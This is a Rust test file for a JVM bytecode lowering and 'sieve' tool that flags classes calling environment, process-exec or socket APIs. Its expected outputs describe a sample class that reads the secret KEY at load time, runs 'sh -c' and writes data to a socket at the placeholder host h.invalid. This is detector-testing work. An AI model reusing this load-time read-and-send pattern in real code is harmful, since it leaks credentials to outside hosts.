//! What classes become. `Sample.class.hex` is `Sample.java` as a compiler (21, with lines) makes it.

use proptest::prelude::*;

use super::super::Reading;
use super::super::shell::show::show;
use crate::ir::Names;

fn sample() -> Vec<u8> {
    let text: String = include_str!("testdata/Sample.class.hex").split_whitespace().collect();
    hex::decode(text).unwrap()
}

fn lowered(bytes: &[u8]) -> String {
    let mut names = Names::default();
    let program = super::lower(bytes, Reading::Whole, &mut names);
    assert_eq!(program.expressions.len(), program.offsets.len());
    show(&program, &names)
}

#[test]
fn a_class_is_its_methods_and_what_runs_when_it_is_loaded() {
    let shown = lowered(&sample());
    for expected in [
        "java.lang.Runnable.implement()",
        "Sample.HOST = \"h.invalid\"",
        "fn Sample.<clinit>() {Sample.key = java.lang.System.getenv(\"KEY\"); return }",
        "export run = Sample.run",
        "Sample.send(<Sample.key, \":\", java.lang.String.length(\"h.invalid\")>, 3)",
        "java.lang.Runtime.exec(java.lang.Runtime.getRuntime(), [\"sh\", \"-c\", <\"echo \", v0>])",
        "if (v1 Greater 2) {",
        "v2 = \"a\"; v2 Add= v0; v2 Add= v1",
        "java.net.Socket.getOutputStream(java.net.Socket.new(\"h.invalid\", 80)).write(v2)",
        "(?() ? \"one\" : \"many\")",
        "java.lang.Thread.new(Sample.lambda$send$0)",
        "java.lang.Thread.start(v3)",
        "= [1, 2, 3]",
    ] {
        assert!(shown.contains(expected), "{expected}\n{shown}");
    }
    assert!(shown.ends_with("Sample.<clinit>()"), "{shown}");
}

/// The sample with other names of the same length in place of some.
fn renamed(names: &[(&str, &str)]) -> Vec<u8> {
    let mut bytes = sample();
    for (from, to) in names {
        let at = memchr::memmem::find(&bytes, from.as_bytes()).unwrap();
        bytes[at..at + to.len()].copy_from_slice(to.as_bytes());
    }
    bytes
}

#[test]
fn methods_of_a_class_that_asks_for_nothing_are_left_out_unless_it_runs_them_when_it_is_loaded() {
    let asks = [("getenv", "getenw"), ("exec", "exed"), ("java/net/Socket", "java/net/Sockew")];
    for left in 0..asks.len() {
        let others: Vec<_> = asks.iter().enumerate().filter(|(at, _)| *at != left).map(|(_, pair)| *pair).collect();
        let program = super::lower(&renamed(&others), Reading::Sifted, &mut Names::default());
        assert!(!program.sifted, "{:?}", asks[left]);
    }
    let mut names = Names::default();
    let plain = renamed(&asks);
    let program = super::lower(&plain, Reading::Sifted, &mut names);
    assert!(program.sifted);
    let shown = show(&program, &names);
    assert!(shown.contains("fn Sample.<clinit>()") && shown.contains("fn Sample.send("), "{shown}");
    assert!(!shown.contains("Sample.run"), "{shown}");
    assert!(!super::lower(&plain, Reading::Whole, &mut Names::default()).sifted);
    // A text that says something is reason enough.
    let text = renamed(&[&asks[..], &[("h.invalid", "ws://a.bc")]].concat());
    assert!(!super::lower(&text, Reading::Sifted, &mut Names::default()).sifted);
}

#[test]
fn what_a_class_may_ask_for_is_named_whole() {
    let paths = include_str!("../../apis/jvm.txt").lines().filter(|line| !line.starts_with('#'));
    for path in paths.filter_map(|line| line.split_whitespace().next()) {
        assert!(!path.contains('*') && path != "alias", "{path}: the sieve looks for whole names");
    }
}

#[test]
fn places_are_lines_of_the_source() {
    let mut names = Names::default();
    let program = super::lower(&sample(), Reading::Whole, &mut names);
    assert!(program.offsets.contains(&8), "{:?}", program.offsets);
    assert!(program.offsets.iter().all(|&line| line < 30), "{:?}", program.offsets);
}

#[test]
fn what_is_no_class_is_a_problem() {
    let mut names = Names::default();
    assert_eq!(super::lower(b"PK", Reading::Whole, &mut names).problems.len(), 1);
    assert_eq!(super::lower(&sample()[..500], Reading::Whole, &mut names).problems.len(), 1);
}

proptest! {
    #[test]
    fn damaged_classes_do_not_panic(changes in prop::collection::vec((0_usize..2600, any::<u8>()), 1..30), end in 0_usize..2600) {
        let mut bytes = sample();
        for (at, byte) in changes {
            if let Some(place) = bytes.get_mut(at) {
                *place = byte;
            }
        }
        super::lower(&bytes, Reading::Whole, &mut Names::default());
        bytes.truncate(end);
        super::lower(&bytes, Reading::Whole, &mut Names::default());
    }

    #[test]
    fn any_instructions_do_not_panic(code in prop::collection::vec(any::<u8>(), 0..300)) {
        let mut names = Names::default();
        let class = sample();
        let class = super::class::Class::read(&class).unwrap();
        let code = super::class::Code { bytes: &code, handlers: vec![3, 9], lines: vec![(0, 1)] };
        let builder = super::Builder::new(crate::ir::Language::Jvm, &mut names);
        let mut lowering = super::Lowering::new(builder, &class);
        super::code::walk(&mut lowering, &code);
    }
}
